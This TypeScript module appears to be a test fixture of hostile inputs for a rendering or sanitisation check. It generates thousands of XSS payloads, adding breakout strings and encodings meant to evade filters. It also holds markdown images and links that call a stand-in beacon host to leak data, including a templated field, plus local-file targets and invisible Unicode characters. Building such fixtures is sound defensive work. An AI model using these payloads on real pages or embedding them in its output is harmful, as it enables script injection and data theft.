/** Where markup that runs would leave its mark, and where a page that leaks would be heard. */
export const MARK = "__ran";
export const BEACON = "https://beacon.invalid/leak";

const RUN = `window.${MARK}=1`;
/** What a string may have to close before it is markup. */
const BREAKOUTS = ["", '">', "'>", "</script>", "</textarea></title>", "--><!--", "]]>", "`;}"];

const HANDLERS = [
  "onerror",
  "onload",
  "onfocus",
  "onmouseover",
  "ontoggle",
  "onanimationstart",
  "onpointerenter",
  "onbegin",
];
const TAGS = [
  "img src=x",
  "svg",
  "body",
  "input autofocus",
  "details open",
  "video src=x",
  "iframe",
  "a tabindex=1",
  "marquee",
];

/** Every handler on every tag after everything there may be to close. */
const HANDLED = BREAKOUTS.flatMap((close) =>
  TAGS.flatMap((tag) => HANDLERS.map((handler) => `${close}<${tag} ${handler}="${RUN}">`)),
);

/** The same thing written so that a filter does not know it. */
const DISGUISES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\n"),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => text.replaceAll("<", "<\u200b"),
  (text) => `${text}${text}`,
];

const WHOLE = [
  `<script>${RUN}</script>`,
  `<script src="${BEACON}.js"></script>`,
  `<script type=module>import("${BEACON}.mjs")</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<math><mtext></table><mglyph><style><img src=x onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${MARK}=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="${BEACON}">`,
  `<link rel=stylesheet href="${BEACON}.css">`,
  `<link rel=prefetch href="${BEACON}">`,
  `<style>@import "${BEACON}.css";</style>`,
  `<style>*{background:url(${BEACON})}</style>`,
  `<div style="background:url(${BEACON})">x</div>`,
  `<meta http-equiv=refresh content="0;url=${BEACON}">`,
  `<base href="${BEACON}/">`,
  `<form action="${BEACON}"><button autofocus>go</button></form>`,
  `<a href="javascript:${RUN}">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  `<a href=" &#106;avascript:${RUN}">click</a>`,
  `<a href="${BEACON}" ping="${BEACON}">https://our.example</a>`,
  `<video poster="${BEACON}"><source src="${BEACON}"></video>`,
  `<picture><source srcset="${BEACON}"><img></picture>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xss id=x tabindex=1 onfocus="${RUN}"></xss>#x`,
  `javascript:${RUN}//`,
  `{{constructor.constructor('${RUN}')()}}`,
  "${alert(1)}",
  `"-(${RUN})-"`,
  `';${RUN};//`,
  `</title><script>${RUN}</script>`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
];

/** Markup that would run a script or load something if any screen took it for markup; some three thousand strings. */
export const MARKUP: readonly string[] = [
  ...new Set([
    ...HANDLED,
    ...WHOLE.flatMap((text) => BREAKOUTS.flatMap((close) => DISGUISES.map((as) => close + as(text)))),
  ]),
];

const TEXTS = ["x", "", "https://our.example", "![x](y)"];
const TARGETS = [
  BEACON,
  "//beacon.invalid/leak",
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "http://127.0.0.1:9/leak",
  "file:///etc/passwd",
  `${BEACON}?q={{rationale}}`,
];

/** Markdown whose images and links would tell somebody else who looked, or lead elsewhere than they say. */
export const MARKDOWN: readonly string[] = [
  ...TEXTS.flatMap((text) => TARGETS.flatMap((target) => [`![${text}](${target})`, `[${text}](${target} "title")`])),
  ...TARGETS.flatMap((target) => [`<${target}>`, `[r]: ${target}\n![x][r]`, `[![x](${target})](${target})`]),
  `<img src="${BEACON}">`,
  `[x](${BEACON})`.repeat(20),
];

/** One of each kind of character that is not seen or changes what is seen. NUL and lone surrogates never get in. */
export const UNSEEN: readonly string[] = [
  "\u202Eecila\u202C",
  "\u2066left\u2069",
  "\u200Fright",
  "zero\u200Bwidth\u200Djoin\uFEFF",
  "tag\u{E0041}\u{E007F}s",
  "soft\u00ADhyphen",
  "variation\uFE0F\u{E0100}",
  "\u001B[2Jcleared",
  "bell\u0007\u0008back",
  "over\rwritten",
  "private\uE000use",
  "un\u0378assigned",
  "hangul\u3164filler",
  "line\u2028and\u2029paragraph",
  "braille\u2800blank",
];
